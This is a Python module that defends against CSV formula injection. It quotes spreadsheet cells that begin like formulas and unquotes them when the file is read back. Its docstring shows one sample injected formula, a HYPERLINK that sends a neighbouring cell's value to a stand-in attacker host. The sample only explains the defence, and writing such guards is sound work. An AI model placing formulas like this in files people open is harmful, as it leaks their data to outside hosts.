"""Text cells of CSV files that spreadsheets would run as formulas.

Excel and LibreOffice read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: a file name ``=HYPERLINK("http://evil.invalid?"&B2)``
from a received dataset becomes a link that sends the next cell away, and a case id ``-x__1``
becomes ``#NAME?`` — saved back so, it no longer names its case. CSV files curator writes *for
people* (the review worklist) prefix such a cell with ``'``, which spreadsheets show as text
(OWASP's advice), and curator strips that quote when it reads the file back. Numbers
(``-3.5``, ``+1``) are left as they are. CSV written as *data* (``curator query -f csv`` and
``-o x.csv``) keeps every value exact unless asked (``--spreadsheet``): a data pipeline reads
back what the table holds.

>>> [formula_safe(v) for v in ("=1+1", "@SUM(A1)", "-x__1", "-3.5", "+1e3", "liver", 7, "")]
["'=1+1", "'@SUM(A1)", "'-x__1", '-3.5', '+1e3', 'liver', 7, '']
>>> unquote(formula_safe("-x__1")), unquote("'quoted on purpose")
('-x__1', "'quoted on purpose")
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_safe(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text: a string that starts like a formula
    (and is no number) gets a leading ``'``; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _is_number(value):
        return "'" + value
    return value


def unquote(text: str) -> str:
    """A cell :func:`formula_safe` wrote, as it was (a spreadsheet may keep the ``'`` on save)."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_START) else text
